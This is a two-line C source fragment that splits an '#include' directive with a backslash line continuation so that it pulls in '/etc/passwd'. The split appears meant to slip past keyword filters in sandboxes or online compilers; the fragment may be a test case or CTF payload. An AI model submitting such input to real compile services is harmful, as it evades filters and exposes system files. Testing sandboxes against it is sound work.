#inc\
lude </etc/passwd>
